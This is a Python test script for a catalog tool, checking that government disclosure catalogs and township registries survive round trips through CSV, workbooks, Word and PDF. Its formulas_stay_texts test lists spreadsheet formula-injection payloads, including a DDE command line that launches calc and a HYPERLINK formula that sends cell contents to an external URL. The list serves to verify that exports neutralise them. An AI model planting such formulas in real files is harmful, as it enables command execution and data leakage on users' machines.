#!/usr/bin/env python3
"""What goes out to other programs comes back: CSV, workbooks, registries; and build takes foreign files directly."""
import csv
import html
import io
import pathlib
import re
import shutil
import tempfile
import zipfile

import openpyxl
import office
from common import IDS, ROOT, Tally, files_below, leaves, load, run, sh, squeeze, store, text_of


def visible(data):
    """What a reader sees, row by row: texts resolved through merges, ticked boxes, ticks."""
    rows, above = [], {}
    for item in data["items"]:
        seen = {}
        for column in leaves(data["columns"]):
            key, kind = column["key"], column.get("kind", "text")
            if kind == "text":
                own = key in item or ("level1" in item and key not in ("no", "category", "level1"))
                above[key] = item.get(key, "") if own else above.get(key, "")
                seen[key] = squeeze(above[key])
            elif kind == "checks":
                value = item.get(key, {})
                seen[key] = sorted(value) if isinstance(value, (dict, list)) else squeeze(value)
            else:
                seen[key] = item.get(key, False)
        rows.append(seen)
    return rows


def same_rows(a, b, but=()):
    assert len(a) == len(b), f"{len(a)} rows, {len(b)}"
    for i, (x, y) in enumerate(zip(a, b), 1):
        for key in x:
            assert key in but or x[key] == y[key], f"row {i}, {key}: {x[key]!r} came back as {y[key]!r}"


def through_csv(name, folder):
    table, back = folder / f"{name}.csv", folder / f"{name}.json"
    run("export", ROOT / f"catalog/{name}.json", "-o", table, check=0)
    text = table.read_bytes()
    assert text.startswith(b"\xef\xbb\xbf"), "no byte order mark"
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))  # another program's reader
    assert any("√" in row for row in rows)
    run("import", table, "-o", back, "--root", ROOT, check=0)
    data = load(ROOT / f"catalog/{name}.json")
    # A continuation row's own columns are written empty; a catalog without them comes back whole.
    same_rows(visible(data), visible(load(back)))


def through_xlsx(name, folder):
    run("build", ROOT / f"catalog/{name}.json", "--root", ROOT, "--out", folder / "out", "--format", "xlsx", check=0)
    back = folder / f"{name}-x.json"
    run("import", folder / f"out/{name}/{name}.xlsx", "-o", back, "--root", ROOT, "--id", name, check=0)
    sent, got = load(ROOT / f"catalog/{name}.json"), load(back)
    for field in ("title", "issuer", "boxes", "columns"):
        assert sent[field] == got[field], f"{field}: {got[field]!r}"
    strip = [{k: v for k, v in item.items() if k not in ("review", "confirmed", "id")} for item in sent["items"]]
    have = [{k: v for k, v in item.items() if k not in ("review", "confirmed", "id")} for item in got["items"]]
    assert strip == have, "the items differ"


def some_columns(name, folder):
    """A form that prints some of the columns: the workbook keeps the others, and the edited one, too."""
    out = folder / "narrow"
    run("build", ROOT / f"catalog/{name}.json", "--root", ROOT, "--out", out, "--format", "xlsx", "--form", "standard-portrait",
        check=0)
    sent, back = ROOT / f"catalog/{name}.json", folder / f"narrow/{name}.json"
    run("import", out / f"{name}/{name}.xlsx", "-o", back, "--root", ROOT, "--id", name, check=0)
    assert back.read_bytes() == sent.read_bytes(), "the catalog came back changed"
    book = openpyxl.load_workbook(out / f"{name}/{name}.xlsx")
    sheet, want = book.worksheets[0], load(sent)
    shown = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    texts = [c.value for c in shown]
    item = next(i for i in want["items"] if texts.count(i.get("level2")) == 1)
    shown[texts.index(item["level2"])].value = item["level2"] = "改过的事项"
    book.save(out / "edited.xlsx")
    run("import", out / "edited.xlsx", "-o", back, "--root", ROOT, "--id", name, check=0)
    got = load(back)
    assert got["columns"] == want["columns"] and got["items"] == want["items"], "the edited catalog came back changed"
    unshown = [c["key"] for c in leaves(want["columns"]) if c.get("kind") == "tick"]
    assert unshown and any(key in item for key in unshown)


def as_page(rows):
    """The table of a CSV file as a page: lines above it are paragraphs, its cells are not merged."""
    out = ["<html><head><meta charset='utf-8'></head><body>"]
    head = next(i for i, row in enumerate(rows) if len([c for c in row if c]) > 3)
    for row in rows[:head]:
        out.append(f"<p>{html.escape(' '.join(c for c in row if c))}</p>")
    out.append("<table border='1'>")
    for row in rows[head:]:
        out.append("<tr>" + "".join(f"<td>{html.escape(c).replace(chr(10), '<br>')}</td>" for c in row) + "</tr>")
    return "".join(out) + "</table></body></html>"


def real_writers(names, folder):
    """Documents by Writer and plain workbooks saved again by Calc: same texts, boxes and ticks."""
    pages, books = [], []
    for name in names:
        pages.append(folder / f"{name}.html")
        pages[-1].write_text(as_page(list(csv.reader(io.StringIO((folder / f"{name}.csv").read_text("utf-8-sig"))))), "utf-8")
        run("build", ROOT / f"catalog/{name}.json", "--root", ROOT, "--out", folder / "plain", "--format", "xlsx", "--plain",
            check=0)
        books.append(folder / f"plain/{name}/{name}.xlsx")
    made = office.convert("docx:MS Word 2007 XML", pages, folder, "--infilter=HTML (StarWriter)")
    made += office.convert("xlsx:Calc MS Excel 2007 XML", books, folder)
    back = folder / "by-others.json"
    for name, file in zip(names * 2, made):
        run("import", file, "-o", back, "--replace", "--root", ROOT, check=0)
        same_rows(visible(load(ROOT / f"catalog/{name}.json")), visible(load(back)))


def registries(folder):
    for path in sorted((ROOT / "catalog/townships").glob("*.json")):
        book, back = folder / f"{path.stem}.xlsx", folder / "r" / path.name
        run("townships", path, "-o", book, "--root", ROOT, check=0)
        run("townships", book, "-o", back, "--root", ROOT, check=0)
        assert load(back) == load(path), f"{path.name} came back changed"


TYPED = {"phone": "09123520188", "address": "鱼河镇便民服务中心（新街12号）一楼3号窗口", "hours": "周一至周五8:30—12:00，14:30—18:00",
         "website": "http://www.example.gov.cn/yuhe/zwgk/jczwgk/", "posted_from": "2026-10-09", "signed": "2026-11-01"}
CAPTIONS = {"phone": "咨询电话", "address": "办公地址", "hours": "办公时间", "website": "网址", "posted_from": "公示开始",
            "signed": "落款日期"}


def filled(folder):
    """A registry's workbook is typed into and comes back: dates are dates, a telephone keeps its 0, rules and catalogs are
    chosen by their names. It prints one page wide, with every text whole."""
    source = ROOT / "catalog/townships/yuyang.json"
    book, want = folder / "fill.xlsx", load(source)
    run("townships", source, "-o", book, "--root", ROOT, check=0)
    sheet = openpyxl.load_workbook(book).worksheets[0]
    heads = {c.value: c.column for c in sheet[1]}
    seen = {h for h, c in heads.items() if not sheet.column_dimensions[openpyxl.utils.get_column_letter(c)].hidden}
    assert set(CAPTIONS.values()) | {"目录", "选取规则"} <= seen and not seen & {"省", "市", "县", "增加事项"}, seen
    lists = {str(v.sqref).split(":")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
    for caption, choice in (("目录", want_title(want)), ("选取规则", "本级全部事项")):
        first, last = re.findall(r"\$B\$(\d+)", lists[sheet.cell(2, heads[caption]).coordinate])
        offered = [r[1].value for r in openpyxl.load_workbook(book)["gongkai"].iter_rows(int(first), int(last))]
        assert choice in offered and sheet.cell(2, heads[caption]).value == choice, offered
    assert b"customHeight" not in zipfile.ZipFile(book).read("xl/worksheets/sheet1.xml"), "rows do not grow"
    if not office.available():
        return print("note: no python3-uno; typing in LibreOffice was NOT checked")
    row = 2 + next(i for i, t in enumerate(want["townships"]) if t["name"] == "鱼河镇")
    typed = folder / "typed.xlsx"
    office.edit(folder, [{"source": str(book), "target": str(typed),
                          "steps": [["type" if "-" in v else "text", r, heads[CAPTIONS[k]], v] for k, v in TYPED.items()
                                    for r in range(2, 2 + len(want["townships"]))]}])
    sheet = openpyxl.load_workbook(typed).worksheets[0]
    assert all(sheet.cell(row, heads[h]).is_date for h in ("公示开始", "落款日期")), "a date came back as a text"
    assert sheet.cell(row, heads["咨询电话"]).value == TYPED["phone"], "a telephone is no text"
    aligned = {sheet.cell(row, c).alignment.horizontal for c in range(1, sheet.max_column + 1)}
    assert len(aligned) == 1, f"cells stand {aligned}"
    back = folder / "typed.json"
    run("townships", typed, "-o", back, "--root", ROOT, check=0)
    for township in want["townships"]:
        township.update(TYPED)
    assert load(back) == want, load(back)["townships"][row - 2]
    updated = shutil.copy(source, folder / "updated.json")
    run("townships", typed, "-o", updated, "--root", ROOT, check=0)
    assert load(updated) == want, "not all that was typed is taken into a registry that stands there"
    again = folder / "again.xlsx"
    run("townships", back, "-o", again, "--root", ROOT, check=0)
    for printed in office.convert("pdf", [typed, again], folder):
        check_printed_registry(printed, len(want["townships"]))


LEAST = 6  # pt: 七号, the least that print has for reading, is 5.5


def check_printed_registry(printed, rows):
    """A4 landscape, one page wide, every text of every row whole, and in a size that can be read."""
    assert re.search(r"Page size: +841\.\d+ x 595\.\d+ pts", sh("pdfinfo", printed)), "not A4 landscape"
    pages = text_of(printed).split("\f")[:-1]
    assert all("选取规则" in page and "区划代码" in page for page in pages), "it is not one page wide"
    whole = squeeze("".join(pages))
    for value in TYPED.values():
        assert whole.count(squeeze(value)) == rows, f"{value} stands {whole.count(squeeze(value))} times in {rows} rows"
    sizes = [float(n) for n in re.findall(r'<font name="[^"]*" size="([^"]*)">', sh("mutool", "draw", "-q", "-F", "stext", printed))]
    assert min(sizes) >= LEAST, f"type of {min(sizes)} pt"


def want_title(registry):
    return load(ROOT / f"catalog/{registry['townships'][0]['catalogs'][0]}.json")["title"]


def built_directly(folder):
    """build takes a foreign file; the pages are those of the imported catalog."""
    source = ROOT / "catalog/source/001_64b3f3eb907f7148.txt"
    run("build", source, "--root", ROOT, "--out", folder / "direct", "--format", "pdf", check=0)
    made = files_below(folder / "direct")
    assert any(name.endswith(".pdf") for name in made), made


def catalog_inside(folder):
    """--attach: the archive copy gives its own catalog back, to the byte (without: check_pdf_import)."""
    name = IDS[1]
    run("build", ROOT / f"catalog/{name}.json", "--root", ROOT, "--out", folder / "pdf", "--format", "pdf", "--attach",
        check=0)
    pdf, back = folder / f"pdf/{name}/{name}.pdf", folder / "back.json"
    run("import", pdf, "-o", back, "--root", ROOT, check=0)
    assert back.read_bytes() == (ROOT / f"catalog/{name}.json").read_bytes(), "the catalog came back changed"
    (folder / "torn.pdf").write_bytes(pdf.read_bytes()[:-3000])
    run("import", folder / "torn.pdf", "-o", folder / "torn.json", "--root", ROOT)


def refused(folder):
    old = folder / "old.doc"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    done = run("import", old, "-o", folder / "old.json", "--root", ROOT, check=3)
    assert ".docx" in done.stderr, done.stderr
    assert not (folder / "old.json").exists()
    done = run("import", old, "-o", folder / "old.json", "--root", ROOT, "--format", "nonsense", check=2)
    assert "dump|pdftext|html|csv|xlsx|docx|pdf" in done.stderr, done.stderr


FORMULAS = ["=1+1", "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", '=HYPERLINK("http://example.org/?"&A1,"x")', "＝5+6",
            "'=7"]


def computed(table, folder):
    """The cells of a CSV that LibreOffice takes for formulas."""
    book = openpyxl.load_workbook(office.convert("xlsx", [table], folder)[0])
    return [cell.value for row in book.active.iter_rows() for cell in row if cell.data_type == "f"]


def formulas_stay_texts(folder):
    """What a spreadsheet would compute is text in an exported CSV, and comes back as it was."""
    catalog, table, back = folder / "formulas.json", folder / "formulas.csv", folder / "formulas-back.json"
    data = load(ROOT / f"catalog/{IDS[0]}.json")
    data["id"], data["title"] = "formulas", FORMULAS[0]
    for item, text in zip(data["items"], FORMULAS):
        item["content"] = text
    store(catalog, data)
    run("export", catalog, "-o", table, check=0)
    run("import", table, "-o", back, "--root", ROOT, check=0)
    same_rows(visible(data), visible(load(back)))
    assert load(back)["title"] == FORMULAS[0]
    assert not computed(table, folder), computed(table, folder)
    bare = folder / "bare.csv"
    bare.write_text(table.read_text("utf-8").replace("\"'", '"'), "utf-8")
    assert computed(bare, folder), "LibreOffice computes nothing: this check sees nothing"


def main():
    tally = Tally()
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        for catalog in IDS:
            tally.case(f"{catalog} through CSV", through_csv, catalog, folder)
            tally.case(f"{catalog} through a workbook", through_xlsx, catalog, folder)
            tally.case(f"{catalog}, some of its columns", some_columns, catalog, folder)
        if shutil.which("soffice"):
            tally.case("by other writers", real_writers, IDS[:2], folder)
            tally.case("formulas stay texts", formulas_stay_texts, folder)
        for function in (registries, filled, built_directly, catalog_inside, refused):
            tally.case(function.__name__, function, folder)
    tally.done()


if __name__ == "__main__":
    main()
